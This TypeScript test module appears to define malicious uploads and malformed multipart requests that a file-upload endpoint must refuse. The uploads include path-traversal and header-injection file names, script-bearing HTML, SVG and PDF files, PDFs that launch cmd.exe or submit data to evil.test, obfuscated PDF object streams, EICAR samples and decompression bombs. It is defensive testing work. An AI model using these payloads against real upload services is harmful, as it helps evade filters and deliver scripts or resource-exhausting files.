// What attackers send, and what merely went wrong: no file of these may be stored.
import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';
import sharp from 'sharp';
import type { FileToSend } from './form-body.ts';
import { makePdf, objectStream, packed, streamOf } from './make-pdf.ts';

const canvas = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: 'red' } });
const png = await canvas(8, 8).png().toBuffer();
const jpeg = await canvas(40, 30).jpeg().toBuffer();
const webp = await canvas(8, 8).webp().toBuffer();
const inPasses = await canvas(5000, 5000).jpeg({ progressive: true }).toBuffer();
const page = Buffer.from('<html><script>alert(1)</script></html>');
const eicar = Buffer.from(['X5O!P%@AP[4', 'PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('\\'));

function chunk(type: string, data: Buffer): Buffer {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  const named = Buffer.concat([Buffer.from(type), data]);
  sum.writeUInt32BE(zlib.crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** 20,000 × 20,000 points in fifty kilobytes. */
function hugePng(): Buffer {
  const side = 20_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(1, 8);
  const rows = zlib.deflateSync(Buffer.alloc(side * (1 + side / 8)));
  const parts = [chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...parts]);
}

/** A ZIP with nothing in it, whose comment runs on to the end of whatever follows. */
function archive(comment: number): Buffer {
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(comment, 20);
  return end;
}

const [pdf, image] = ['application/pdf', 'image/png'];
const asPdf = (content: Buffer): FileToSend => ({ name: 'Nachweis.pdf', type: pdf, content });
const asPng = (content: Buffer): FileToSend => ({ name: 'Bild.png', type: image, content });
const asJpeg = (content: Buffer): FileToSend => ({ name: 'Bild.jpg', type: 'image/jpeg', content });
const named = (name: string): FileToSend => ({ name, type: image, content: png });
/** Packed objects with a script, whose dictionary goes on after the filter. */
const disguised = (rest: string, before = '\nstream\n') =>
  acting(
    '',
    Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode ${rest}${before}`),
      packed(`10 0 ${script}`),
      Buffer.from('\nendstream'),
    ]),
  );
const acting = (catalogue: string, ...objects: (string | Buffer)[]) => asPdf(makePdf({ catalogue, objects }));
const zeros = (megabytes: number) => zlib.deflateSync(Buffer.alloc(megabytes * 1024 * 1024));
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const tagged = Buffer.concat([Buffer.from('\u0000'), Buffer.from('10 0 << /S /Java'), Buffer.from('\u0000Script >>')]);
const clean = makePdf();
const inZip = makePdf()
  .toString('latin1')
  .replace(/startxref[^]*$/, '');
const tail = 'startxref\n0\n%%EOF\n';

/** Files in an honest form. */
export const refusedFiles: readonly (readonly [string, FileToSend])[] = [
  ['a name that climbs', named('../../etc/passwd.png')],
  ['a name that climbs as on Windows', named(String.raw`..\..\boot.png`)],
  ['a name with a folder', named('/etc/cron.d/x.png')],
  ['a name with a drive', named('C:bild.png')],
  ['a name with NUL', named('bild.php\u0000.png')],
  ['a name with an escaped line break', named('bild%0D%0AX-Evil: 1.png')],
  ['a name written from right to left', named('gnp.\u202etxt.png')],
  ['a name with what cannot be seen', named('bi\u200bld.png')],
  ['a hidden name', named('.png')],
  ['a name without end', named(`${'x'.repeat(300)}.png`)],
  ['no name', named(' ')],
  ['a program after a picture', named('bild.png.exe')],
  ['no ending', named('bild')],
  ['a picture called a PDF', { name: 'bild.pdf', type: pdf, content: png }],
  ['a PDF called a picture', asPng(clean)],
  ['a picture declared a page', { name: 'bild.png', type: 'text/html', content: png }],
  ['nothing', asPng(Buffer.alloc(0))],
  ['noise', asPng(randomBytes(5000))],
  ['a page', { name: 'seite.html', type: 'text/html', content: page }],
  ['a page called a picture', asPng(page)],
  ['an SVG', { name: 'b.svg', type: 'image/svg+xml', content: Buffer.from('<svg onload="alert(1)"/>') }],
  ['an SVG called a picture', asPng(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))],
  ['a GIF', { name: 'b.gif', type: 'image/gif', content: Buffer.from('GIF89a\u0001\u0000\u0001\u0000;', 'latin1') }],
  [
    'a TIFF',
    { name: 'b.tif', type: 'image/tiff', content: Buffer.from('II*\u0000\u0008\u0000\u0000\u0000', 'latin1') },
  ],
  ['an archive', { name: 'b.zip', type: 'application/zip', content: archive(0) }],
  ['a program called a PDF', asPdf(Buffer.from('MZ\u0090\u0000', 'latin1'))],
  ['EICAR', { name: 'eicar.com', type: 'application/octet-stream', content: eicar }],
  ['EICAR called a PDF', asPdf(eicar)],
  ['EICAR behind a picture', asPng(Buffer.concat([png, eicar]))],
  ['EICAR behind a PDF', asPdf(Buffer.concat([clean, eicar]))],
  ['a JPEG cut off', asJpeg(jpeg.subarray(0, -20))],
  ['a PNG cut off', asPng(png.subarray(0, -20))],
  ['a WebP cut off', { name: 'b.webp', type: 'image/webp', content: webp.subarray(0, -10) }],
  ['a JPEG with a page behind it', asJpeg(Buffer.concat([jpeg, page]))],
  ['a PNG with an archive behind it', asPng(Buffer.concat([png, archive(0)]))],
  ['a PNG of 20,000 × 20,000 points', asPng(hugePng())],
  ['a JPEG of 25 million points in several passes', asJpeg(inPasses)],
  [
    'noise that begins like a HEIC',
    {
      name: 'b.heic',
      type: 'image/heic',
      content: Buffer.concat([
        Buffer.from('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic', 'latin1'),
        randomBytes(2000),
      ]),
    },
  ],
  ['a PDF that runs a script when it opens', acting('/OpenAction 4 0 R', script)],
  ['a PDF with a script in its names', acting('/Names << /JavaScript 4 0 R >>', '<< /Names [(a) 5 0 R] >>')],
  ['a PDF with a script by another spelling', acting('/OpenAction << /S /J#61#76aScript /JS (x) >>')],
  ['a PDF with a script whose kind stands elsewhere', acting('/OpenAction << /S 4 0 R >>', '/JavaScript')],
  ['a PDF with a script in packed objects', acting('/OpenAction 10 0 R', objectStream(script))],
  ['a PDF with a script in packed objects, spelled', acting('', objectStream('<< /S /#4Aava#53cript >>'))],
  [
    'a PDF with packed objects behind a predictor',
    acting(
      '',
      streamOf(
        '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 16 >>',
        packed(tagged),
      ),
    ),
  ],
  [
    'a PDF with objects packed twice',
    acting(
      '',
      objectStream(script, '/Filter [/FlateDecode /FlateDecode]', (text) => packed(packed(text))),
    ),
  ],
  [
    'a PDF with objects as hexadecimal',
    acting(
      '',
      objectStream(script, '/Filter /ASCIIHexDecode', (text) => Buffer.from(`${Buffer.from(text).toString('hex')}>`)),
    ),
  ],
  [
    'a PDF with packed objects that are damaged',
    acting(
      '',
      objectStream(script, '/Filter /FlateDecode', (text) => packed(text).fill(7, 12)),
    ),
  ],
  ['a PDF with objects behind a comment', disguised('% 5 0 obj <<\n >>')],
  ['a PDF with objects whose comment ends another one', disguised('%endobj 6 0 obj <<\n/Length 99 >>')],
  [
    'a PDF with objects whose text ends another one',
    disguised(String.raw`/J (endobj 6 0 obj << /A \(b) /Length 99 >>`),
  ],
  ['a PDF with objects whose number ends another one', disguised('/J <endobj 6 0 obj << /A <41> /Length 99 >>')],
  ['a PDF with objects behind a comment in their first line', disguised('>>', 'stream%\n')],
  [
    'a PDF with two objects in one stream, of which readers choose one',
    disguised('>>', `stream ${packed('10 0 << >>').toString('latin1')}\n`),
  ],
  ['a PDF with objects whose filter is said twice', disguised('/Filter [] >>')],
  ['a PDF with objects whose filter is said once more in short', disguised('/F /AHx >>')],
  [
    'a PDF with packed objects that hold packed objects',
    acting('', objectStream('<< /First 5 /N 1 /Filter /ASCIIHexDecode >>\nstream\n41>')),
  ],
  ['a PDF that opens a page of the web', acting('/OpenAction << /S /URI /URI (http://evil.test) >>')],
  ['a PDF that opens a page of the web by another object', acting('/OpenAction 4 0 R', '<< /S /URI /URI (x) >>')],
  ['a PDF that opens a page of the web after one of its own', acting('/OpenAction << /S /GoTo /Next 4 0 R >>')],
  ['a PDF that prints itself, by another spelling', acting('/Open#41ction << /S /Named /N /Print >>')],
  ['a PDF that acts behind a long comment', acting(`/OpenAction %${'x'.repeat(3000)}\n<< /S /URI >>`)],
  ['a PDF that acts when it is opened, packed', acting('', objectStream('<< /OpenAction << /S /URI >> >>'))],
  ['a PDF whose page acts', acting('/AA << /O << /S /URI /URI (http://evil.test) >> >>')],
  ['a PDF whose page acts by another object', acting('/#41A 4 0 R', '<< /O << /S /URI >> >>')],
  ['a PDF whose page acts, packed', acting('', objectStream('<< /AA <</C 5 0 R>> >>'))],
  ['a PDF that starts a program', acting('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['a PDF with a file in it', acting('', streamOf('/Type /EmbeddedFile', eicar))],
  ['a PDF that names files in it', acting('/Names << /EmbeddedFiles << /Names [] >> >>')],
  ['a PDF with a file pinned to its page', acting('', '<< /Subtype /FileAttachment /FS << /EF << /F 5 0 R >> >> >>')],
  ['a PDF that opens a file elsewhere', acting('/OpenAction << /S /GoToR /F (\\\\\\\\evil.test\\\\a.pdf) >>')],
  ['a PDF with a figure that runs a script', acting('', '<< /Type /3D /OnInstantiate 5 0 R >>')],
  ['a PDF with Flash', acting('', '<< /Type /Annot /Subtype /RichMedia >>')],
  ['a PDF with a film', acting('', '<< /S /Rendition /OP 0 >>')],
  ['a PDF with an XFA form', acting('/AcroForm << /XFA 4 0 R >>', streamOf('', Buffer.from('<xdp/>')))],
  ['a PDF that sends a form', acting('/OpenAction << /S /SubmitForm /F (http://evil.test) >>')],
  ['a PDF that fetches data', acting('/OpenAction << /S /ImportData /F (x) >>')],
  ['a PDF that opens a file in it', acting('/OpenAction << /S /GoToE >>')],
  ['an encrypted PDF', asPdf(makePdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>' }))],
  ['a PDF that unfolds to 256 MB', acting('', streamOf('/Filter /FlateDecode', zeros(256)))],
  [
    'a PDF whose picture unfolds to 768 MB',
    acting('', streamOf('/Subtype /Image /Width 9 /Height 9 /Filter /FlateDecode', zeros(768))),
  ],
  ['a PDF that unfolds twice', acting('', streamOf('/Filter [/FlateDecode /FlateDecode]', packed(zeros(16))))],
  ['a PDF whose objects are read again and again', asPdf(makePdf({ objects: [`(${'obj%'.repeat(100_000)})`] }))],
  ['a PDF cut off', asPdf(clean.subarray(0, -30))],
  ['a PDF with an archive behind it', asPdf(Buffer.concat([clean, archive(0)]))],
  [
    'a PDF that is an archive',
    asPdf(Buffer.concat([Buffer.from(inZip, 'latin1'), archive(tail.length), Buffer.from(tail)])),
  ],
  ['a PDF with a page in front', asPdf(Buffer.concat([page, clean]))],
  [
    'a PDF that is a page',
    asPdf(Buffer.concat([Buffer.from('%PDF-1.7\n<!doctype html><script>alert(1)</script>\n'), clean])),
  ],
  ['more than 20 MB', asPdf(Buffer.alloc(21 * 1024 * 1024, clean))],
];

const boundary = 'corpus';
const head = { 'content-type': `multipart/form-data; boundary=${boundary}` };
const part = (name: string, text: string) =>
  `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
const filePart = (name: string) =>
  Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${name}"; filename="b.png"\r\nContent-Type: image/png\r\n\r\n`,
    ),
    png,
    Buffer.from('\r\n'),
  ]);
const end = Buffer.from(`--${boundary}--\r\n`);
const category = Buffer.from(part('category', 'permit'));
const form = (...parts: Buffer[]) => ({ headers: head, payload: Buffer.concat([...parts, end]) });
const whole = form(category, filePart('file')).payload;

interface RawRequest {
  readonly headers: Record<string, string>;
  readonly payload: Buffer;
}

/** Requests that are no honest form. */
export const refusedRequests: readonly (readonly [what: string, status: number, RawRequest])[] = [
  ['a form cut off in its file', 400, { headers: head, payload: whole.subarray(0, -60) }],
  ['a form cut off in a head', 400, { headers: head, payload: whole.subarray(0, 30) }],
  ['a form without its last line', 400, { headers: head, payload: whole.subarray(0, -end.length) }],
  ['an empty form', 400, { headers: head, payload: Buffer.alloc(0) }],
  ['a form without a boundary', 400, { headers: { 'content-type': 'multipart/form-data' }, payload: whole }],
  [
    'a form with another boundary',
    400,
    { headers: { 'content-type': 'multipart/form-data; boundary=x' }, payload: whole },
  ],
  ['a form without a file', 422, form(category)],
  ['a file under another name', 422, form(category, filePart('data'))],
  ['two files', 422, form(category, filePart('file'), filePart('file'))],
  [
    '1,000 parts',
    400,
    form(...Array.from({ length: 1000 }, (_, index) => Buffer.from(part(`f${index}`, 'x'))), filePart('file')),
  ],
  ['1,000 files', 422, form(category, ...Array.from({ length: 1000 }, () => filePart('file')))],
  ['a field without end', 400, form(Buffer.from(part('name', 'x'.repeat(200_000))), category, filePart('file'))],
  ['a field name without end', 400, form(Buffer.from(part('x'.repeat(5000), 'x')), category, filePart('file'))],
  ['a field twice', 400, form(category, category, filePart('file'))],
  ['a file as a text', 400, form(category, Buffer.from(part('file', 'x')))],
  ['JSON', 415, { headers: { 'content-type': 'application/json' }, payload: Buffer.from('{"category":"permit"}') }],
];
